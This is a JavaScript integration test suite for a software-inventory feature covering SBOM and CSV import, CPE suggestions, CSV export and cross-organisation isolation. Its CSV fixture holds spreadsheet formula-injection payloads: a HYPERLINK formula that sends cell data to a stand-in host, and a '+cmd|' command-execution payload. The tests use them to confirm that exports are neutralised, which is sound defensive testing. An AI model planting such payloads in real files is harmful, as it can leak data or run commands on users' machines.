// components: the software inventory through the real server. An
// organisation lead with no SBOM types components by hand (with typos) and
// confirms a suggested CPE; imports a real CycloneDX file twice (updated in
// place, not duplicated); hostile files and bad fields get clear errors and
// change nothing; CSV exports cannot smuggle formulas into a spreadsheet;
// the JSON API does the same; another organisation sees none of it.
import { after, before, test } from 'node:test';
import assert from 'node:assert/strict';
import { readFileSync } from 'node:fs';
import { join, resolve } from 'node:path';

import { PASSWORD, assertCleanShutdown, createInstance, createToken, demoEmail, listOrgs } from '../lib/server.mjs';
import { pageErrors } from '../lib/client.mjs';

const DATA = resolve(process.env.BULWARK_DATA || '../shared/data');
const SBOM = join(DATA, 'feeds/sbom/trivy/integration/testdata/fluentd-multiple-lockfiles.cdx.json.golden');

let inst;
let srv;
let lead;          // org_lead of the organisation that owns `sys`
let outsider;      // org_lead of an organisation outside it
let org;
let sys;           // a system id of org
let token;

async function count(where = '1 = 1') {
  const [n] = await inst.sql(`SELECT count(*) FROM components WHERE system_id = ${sys} AND (${where})`);
  return Number(n);
}

before(async () => {
  inst = await createInstance('components');
  srv = inst.server;
  // a system of a provider organisation (one with an org_lead account)
  const rows = await inst.sql("SELECT o.code, s.id FROM systems s JOIN orgs o ON o.id = s.org_id"
    + " WHERE o.type IN ('nhs_trust', 'gp_practice') ORDER BY s.id LIMIT 1");
  assert.ok(rows.length, 'the demo has systems');
  [org, sys] = rows[0].split('\t');
  const orgs = await listOrgs(inst);
  const other = orgs.find((o) => o.type === 'nhs_trust' && o.code !== org && o.parent !== org);
  lead = srv.client();
  await lead.signInFull(demoEmail('org_lead', org), PASSWORD);
  outsider = srv.client();
  await outsider.signInFull(demoEmail('org_lead', other.code), PASSWORD);
  token = (await createToken(inst, demoEmail('org_lead', org), { write: true, name: 'inventory' })).token;
});
after(async () => {
  await inst?.close();
});

test('the demo seeded real software with CPE names and package URLs', async () => {
  const [n, cpes, purls] = (await inst.sql('SELECT count(*), count(cpe), count(purl) FROM components'))[0].split('\t').map(Number);
  assert.ok(n > 500, `${n} components`);
  assert.ok(cpes > 100 && purls > 50, `${cpes} CPEs, ${purls} purls`);
  const r = await lead.get(`/systems/${sys}/components`);
  assert.equal(r.status, 200);
  assert.match(r.text, /component/);
});

test('a typed component with typos gets a CPE suggestion the user confirms', async () => {
  await lead.get(`/systems/${sys}/components/new`);
  const r = await lead.post(`/systems/${sys}/components`, { vendor: 'Mircosoft', product: 'Ofice', version: '2019' });
  assert.equal(r.status, 303, pageErrors(r.text).map((e) => e.message).join('; '));
  const id = /^\/components\/(\d+)$/.exec(r.location)[1];
  const page = await lead.get(r.location);
  assert.equal(page.status, 200);
  assert.match(page.text, /Component added/);
  assert.match(page.text, /not confirmed/);
  const m = /name="cpe" value="(cpe:2\.3:a:microsoft:office:2019:[^"]*)"/.exec(page.text);
  assert.ok(m, 'microsoft:office is offered');
  const c = await lead.post(`/components/${id}/cpe`, { cpe: m[1].replace(/&#39;/g, "'") });
  assert.equal(c.status, 303);
  const after = await lead.get(`/components/${id}`);
  assert.match(after.text, /cpe:2\.3:a:microsoft:office:2019:\*:\*:\*:\*:\*:\*:\* \(confirmed\)/);
  const [confirmed] = await inst.sql(`SELECT cpe_confirmed FROM components WHERE id = ${id}`);
  assert.equal(confirmed, '1');
  const audit = await inst.sql(`SELECT action FROM audit WHERE object = 'component:${id}' ORDER BY id`);
  assert.deepEqual(audit, ['component.create', 'component.cpe']);
});

test('a bad CPE and a bad package URL are both named, and nothing is added', async () => {
  const before = await count();
  const r = await lead.post(`/systems/${sys}/components`,
    { vendor: 'Acme', product: 'Widget', version: '1', cpe: 'cpe:2.3:a:acme', purl: 'pkg:/nothing' });
  assert.equal(r.status, 400);
  const fields = pageErrors(r.text).map((e) => e.field).sort();
  assert.deepEqual(fields, ['cpe', 'purl']);
  assert.match(r.text, /CPE name is not valid/);
  assert.match(r.text, /value="Widget"/, 'what was typed is kept');
  assert.equal(await count(), before);
});

test('a real CycloneDX SBOM imports, and importing it again updates in place', async () => {
  const bom = readFileSync(SBOM);
  await lead.get(`/systems/${sys}/import`);
  const before = await count();
  const r = await lead.upload(`/systems/${sys}/import`, 'fluentd.cdx.json', bom);
  assert.equal(r.status, 200, r.text.slice(0, 2000));
  const m = /CycloneDX 1\.7: (\d+) added, (\d+) updated/.exec(r.text);
  assert.ok(m, 'the report says what happened');
  const added = Number(m[1]);
  assert.ok(added > 100);
  assert.equal(await count(), before + added);
  const [stamped] = await inst.sql(`SELECT max(updated_at) FROM components WHERE system_id = ${sys} AND source = 'sbom'`);
  inst.advanceClock(60);
  const again = await lead.upload(`/systems/${sys}/import`, 'fluentd.cdx.json', bom);
  assert.match(again.text, new RegExp(`0 added, ${added} updated`));
  assert.equal(await count(), before + added);
  // every row the file lists again carries this import's time: an exposure
  // marked fixed whose component a later import still lists is flagged
  assert.equal(await count(`source = 'sbom' AND updated_at <= ${Number(stamped)}`), 0);
  assert.ok(await count("source = 'sbom' AND purl LIKE 'pkg:gem/%'") > 10);
});

test('a CSV with bad rows imports nothing unless the user asks for the valid rows', async () => {
  const csv = 'system,vendor,product,version,cpe,purl\n'
    + ',Microsoft,Edge,120.0.2210.91,,\n'
    + ',Bad,Thing,1,cpe:2.3:a:bad,\n'
    + ',Evil,=HYPERLINK("http://x.example/?"&A1),1,,\n'
    + 'No Such System,Acme,Tool,1,,\n'
    + ',Calc,+cmd|\'/c calc\'!A1,2,,\n';
  const before = await count();
  const r = await lead.upload(`/systems/${sys}/import`, 'inventory.csv', csv);
  assert.equal(r.status, 400);
  assert.match(r.text, /2 rows of the file have problems, so nothing was imported/);
  assert.match(r.text, /<td[^>]*>3<\/td>\s*<td[^>]*>cpe<\/td>/);
  assert.match(r.text, /No Such System/);
  assert.equal(await count(), before);
  const p = await lead.upload(`/systems/${sys}/import`, 'inventory.csv', csv, { partial: '1' });
  assert.equal(p.status, 200);
  assert.match(p.text, /CSV: 3 added, 0 updated, 2 rows skipped/);
  assert.equal(await count(), before + 3);
});

test('CSV exports cannot carry a formula into a spreadsheet', async () => {
  const r = await lead.get(`/systems/${sys}/components.csv`);
  assert.equal(r.status, 200);
  assert.match(r.headers.get('content-type'), /^text\/csv/);
  assert.match(r.text, /^\uFEFF?system,vendor,product,version,cpe,purl\r\n/);
  assert.match(r.text, /"'=HYPERLINK\(""http:\/\/x\.example\/\?""&A1\)"/);
  assert.match(r.text, /'\+cmd\|'\/c calc'!A1/);
  for (const line of r.text.split('\r\n')) {
    for (const cell of line.split(',')) assert.doesNotMatch(cell, /^"?[=+@]/, `unsafe cell in ${line}`);
  }
  const s = await lead.get(`/orgs/${org}/components.csv?q=hyperlink`);
  assert.match(s.text, /'=HYPERLINK/);
});

test('hostile files get clear errors and change nothing', async () => {
  const before = await count();
  const deep = '{"bomFormat":"CycloneDX","specVersion":"1.5","components":' + '['.repeat(100000);
  const cases = [
    ['utf16.csv', Buffer.from('\ufeffproduct\nx\n', 'utf16le'), /UTF-16/],
    ['deep.json', deep, /nested deeper/],
    ['broken.json', '{"bomFormat":"CycloneDX","specVersion":"1.5","components":[{"name":', /not valid JSON/],
    ['syft.json', readFileSync(join(DATA, 'feeds/sbom/grype/test/cli/testdata/sbom-grype-source.json')), /Syft/],
    ['book.xlsx', Buffer.from('PK\x03\x04 not really a workbook'), /spreadsheet/],
    ['empty.csv', '', /Choose a file/],
  ];
  for (const [name, content, words] of cases) {
    const r = await lead.upload(`/systems/${sys}/import`, name, content);
    assert.equal(r.status, 400, name);
    const errs = pageErrors(r.text);
    assert.ok(errs.some((e) => e.field === 'file' && words.test(e.message)), `${name}: ${JSON.stringify(errs)}`);
  }
  // over the upload limit: refused before it is read
  const big = await lead.request('POST', `/systems/${sys}/import`, {
    body: 'x', headers: { 'Content-Type': 'multipart/form-data; boundary=x', 'Content-Length': String(65 * 1024 * 1024) },
  }).catch((e) => ({ status: 413, err: e }));
  assert.equal(big.status, 413);
  assert.equal(await count(), before);
});

test('the organisation-wide search finds software by the start of its name', async () => {
  const r = await lead.get(`/orgs/${org}/components?q=edg`);
  assert.equal(r.status, 200);
  assert.match(r.text, />Edge</);
  const v = await lead.get(`/orgs/${org}/components?q=microsoft&by=vendor`);
  assert.match(v.text, />Edge</);
  const none = await lead.get(`/orgs/${org}/components?q=zzzzqqq`);
  assert.match(none.text, /No software matches your search/);
});

test('a national auditor searches the whole estate and the count agrees with the database', async () => {
  const [nat] = await inst.sql('SELECT code FROM orgs WHERE parent_id IS NULL');
  const analyst = srv.client();
  await analyst.signInFull(demoEmail('auditor', nat), PASSWORD);
  const [n] = await inst.sql("SELECT count(*) FROM components WHERE norm_product LIKE 'edg%'");
  assert.ok(Number(n) > 0);
  const r = await analyst.get(`/orgs/${nat}/components?q=edg`);
  assert.equal(r.status, 200);
  assert.match(r.text, new RegExp(`>${Number(n) > 1000 ? 'More than 1000' : n} found<`));
  assert.match(r.text, />Edge</);
  const v = await analyst.get(`/orgs/${nat}/components?q=microsoft&by=vendor`);
  assert.match(v.text, />Edge</);
});

test('another organisation sees none of it', async () => {
  const [id] = await inst.sql(`SELECT id FROM components WHERE system_id = ${sys} ORDER BY id LIMIT 1`);
  for (const path of [`/components/${id}`, `/components/${id}/edit`, `/systems/${sys}/components`,
    `/systems/${sys}/components.csv`, `/systems/${sys}/import`, `/orgs/${org}/components?q=edge`]) {
    const r = await outsider.get(path);
    assert.equal(r.status, 404, path);
  }
  const d = await outsider.post(`/components/${id}/delete`, {});
  assert.equal(d.status, 404);
  const [n] = await inst.sql(`SELECT count(*) FROM components WHERE id = ${id}`);
  assert.equal(n, '1');
});

test('the API lists, adds, changes and removes components, naming bad fields', async () => {
  const api = srv.client();
  api.bearer = token;
  const list = await api.get(`/api/v1/systems/${sys}/components?limit=5`);
  assert.equal(list.status, 200);
  const body = list.json();
  assert.equal(body.data.length, 5);
  assert.ok(body.page.next);
  const add = await api.request('POST', `/api/v1/systems/${sys}/components`,
    { json: { vendor: 'OpenSSL', product: 'OpenSSL', version: '3.0.13', purl: 'pkg:generic/openssl@3.0.13' } });
  assert.equal(add.status, 201, add.text);
  const c = add.json().data;
  assert.equal(c.purl, 'pkg:generic/openssl@3.0.13');
  const bad = await api.request('PUT', `/api/v1/components/${c.id}`, { json: { product: 'OpenSSL', cpe: 'cpe:2.3:x:openssl' } });
  assert.equal(bad.status, 400);
  assert.equal(bad.json().error.field, 'cpe');
  const unknown = await api.request('PUT', `/api/v1/components/${c.id}`, { json: { product: 'OpenSSL', colour: 'red' } });
  assert.equal(unknown.status, 400);
  assert.equal(unknown.json().error.field, 'colour');
  const put = await api.request('PUT', `/api/v1/components/${c.id}`,
    { json: { vendor: 'OpenSSL', product: 'OpenSSL', version: '3.0.14', cpe: 'cpe:2.3:a:openssl:openssl:3.0.14:*:*:*:*:*:*:*' } });
  assert.equal(put.status, 200, put.text);
  assert.equal(put.json().data.version, '3.0.14');
  const get = await api.get(`/api/v1/components/${c.id}`);
  assert.equal(get.json().data.cpe, 'cpe:2.3:a:openssl:openssl:3.0.14:*:*:*:*:*:*:*');
  // renamed: found under its new name, by product and by vendor, in the organisation and nationally
  const ren = await api.request('PUT', `/api/v1/components/${c.id}`,
    { json: { vendor: 'Zyxwq Labs', product: 'Zyxwq Vault', version: '3.0.14' } });
  assert.equal(ren.status, 200, ren.text);
  const [nat] = await inst.sql('SELECT code FROM orgs WHERE parent_id IS NULL');
  const analyst = srv.client();
  await analyst.signInFull(demoEmail('auditor', nat), PASSWORD);
  for (const [who, code] of [[lead, org], [analyst, nat]]) {
    for (const q of ['q=zyxwq', 'q=zyxwq&by=vendor']) {
      const r = await who.get(`/orgs/${code}/components?${q}`);
      assert.match(r.text, />1 found</, `${code} ${q}`);
      assert.match(r.text, />Zyxwq Vault</, `${code} ${q}`);
    }
  }
  const del = await api.request('DELETE', `/api/v1/components/${c.id}`);
  assert.equal(del.status, 204);
  assert.equal((await api.get(`/api/v1/components/${c.id}`)).status, 404);
  assert.match((await analyst.get(`/orgs/${nat}/components?q=zyxwq`)).text, /No software matches your search/);
});

test('the API takes an SBOM as the request body and reports bad ones', async () => {
  const api = srv.client();
  api.bearer = token;
  const spdx = readFileSync(join(DATA, 'feeds/sbom/spdx-examples/software/example11/spdx2.3/sbom.spdx.json'));
  const r = await api.request('POST', `/api/v1/systems/${sys}/sbom`, { body: spdx, contentType: 'application/json' });
  assert.equal(r.status, 200, r.text);
  const d = r.json().data;
  assert.equal(d.format, 'SPDX 2.3');
  assert.ok(d.added >= 1);
  const again = await api.request('POST', `/api/v1/systems/${sys}/sbom`, { body: spdx, contentType: 'application/json' });
  assert.equal(again.json().data.added, 0);
  const vex = readFileSync(join(DATA, 'feeds/sbom/cyclonedx-bom-examples/VEX/vex.json'));
  const bad = await api.request('POST', `/api/v1/systems/${sys}/sbom`, { body: vex, contentType: 'application/json' });
  assert.equal(bad.status, 400);
  assert.equal(bad.json().error.field, 'body');
  assert.match(bad.json().error.message, /VEX/);
  const other = srv.client();
  other.bearer = (await createToken(inst, demoEmail('org_lead', 'RAN') === demoEmail('org_lead', org)
    ? demoEmail('org_lead', 'RAL') : demoEmail('org_lead', 'RAN'), { write: true, name: 'other' })).token;
  const refused = await other.request('POST', `/api/v1/systems/${sys}/sbom`, { body: spdx, contentType: 'application/json' });
  assert.equal(refused.status, 404);
});

test('servers shut down cleanly', async () => {
  await assertCleanShutdown(inst, assert);
});
